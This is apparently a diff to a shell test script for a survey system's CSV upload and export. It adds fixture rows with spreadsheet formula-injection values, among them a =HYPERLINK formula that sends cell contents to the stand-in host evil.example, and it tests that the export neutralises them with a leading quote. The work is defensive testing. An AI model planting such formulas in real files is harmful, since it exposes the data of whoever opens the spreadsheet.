@@ -58,9 +58,21 @@ leaves"
 aw-2,C012,2025-03-02,kiosk,2.5,,,2,m,=SUM(A1:A9)
 aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,1,,plain
 aw-4,U001,2026-01-01T00:00:00+07:00,paper,0.3333333333333333,,,1,f,
+aw-5,C011,2025-03-03,web,1,,,3,f,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"
+aw-6,C011,2025-03-04,web,1,,,3,m,+1
+aw-7,C011,2025-03-05,web,1,,,3,m,-2
+aw-8,C011,2025-03-06,web,1,,,3,m,@SUM(1)
+aw-9,C011,2025-03-07,web,1,,,3,m,'=already quoted
+aw-10,C011,2025-03-08,web,1,,,3,m,it's -fine
 EOF
 is "$(upload "$ADMIN" onestop-tt01 "$tmp/awkward.csv")" 200 "rows with quotes, commas, a line break and demographics: uploaded"
-is "$(totals)" "4 4 0 0 0" "all 4 stored"
+is "$(totals)" "10 10 0 0 0" "all 10 stored" || jq -c '.errors' "$tmp/body" | head -c 2000 | sed 's/^/# /' >&2
+is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-5'")" '=HYPERLINK("http://evil.example/?x="&A1,"click")' \
+	"a comment that is a formula is stored as the citizen wrote it"
+is "$(sql "SELECT respondent ->> 'note' FROM responses WHERE source_id = 'aw-9'")" "=already quoted" \
+	"a ' before a formula in an uploaded file is taken off (the export's own guard)"
+st=$(post "$ADMIN" '{"id": "aw-11", "survey": "onestop-tt01", "unit": "C011", "submitted_at": "2025-03-09T10:00:00+07:00", "channel": "web", "answers": {"R1": 3}, "respondent": {"gender": "m", "note": "'"'"'=quoted by its writer"}}')
+is "$st" 201 "a comment that starts with '= itself, through the API" || sed 's/^/# /' "$tmp/body" >&2
 
 # --- the same bytes as sipasctl export ------------------------------------------
 # NAME | query | sipasctl arguments
@@ -88,8 +100,19 @@ EOF
 ctl_export "$tmp/ctl.csv" --survey onestop-tt01
 grep -q '^"aw,1",C011,2025-03-01T10:00:00+07:00,web,0.1,"s,1","p""1",3,f,"says ""hi"", then$' "$tmp/ctl.csv"
 tap $? "a field with a comma, a quote or a line break is quoted (RFC 4180)"
-grep -q '^aw-2,C012,2025-03-02T00:00:00+07:00,kiosk,2.5,,,2,m,=SUM(A1:A9)' "$tmp/ctl.csv"
+grep -q '^aw-3,U002,2025-12-31T23:59:59+07:00,sms,1,,,,,plain' "$tmp/ctl.csv"
 tap $? "other fields are written as they are"
+# Formula injection: text a spreadsheet would run gets a ' in front.
+grep -q "^aw-2,C012,2025-03-02T00:00:00+07:00,kiosk,2.5,,,2,m,'=SUM(A1:A9)" "$tmp/ctl.csv"
+tap $? "=SUM(...) is written '=SUM(...)"
+grep -q "^aw-5,C011,2025-03-03T00:00:00+07:00,web,1,,,3,f,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" "$tmp/ctl.csv"
+tap $? "a =HYPERLINK(...) comment is written '=HYPERLINK(...), quoted"
+grep -q "^aw-6,.*,m,'+1.\$" "$tmp/ctl.csv" && grep -q "^aw-7,.*,m,'-2.\$" "$tmp/ctl.csv" &&
+	grep -q "^aw-8,.*,m,'@SUM(1).\$" "$tmp/ctl.csv" && grep -q "^aw-9,.*,m,'=already quoted.\$" "$tmp/ctl.csv" &&
+	grep -q "^aw-10,.*,m,it's -fine.\$" "$tmp/ctl.csv" && grep -q "^aw-11,.*,m,''=quoted by its writer.\$" "$tmp/ctl.csv"
+tap $? "text starting with +, -, @ gets a ' too; text with a ' or - further on does not"
+grep -q "^aw-7,C011,2025-03-05T00:00:00+07:00,web,1,,,3," "$tmp/ctl.csv"
+tap $? "numbers stay numbers (weight, answers)"
 head -n 1 "$tmp/ctl.csv" | od -c | grep -q '\\r  \\n'
 tap $? "lines end in CRLF"
 export_get "$ADMIN" "survey=onestop-tt01&from=2030-01-01" "$tmp/api.csv" >/dev/null
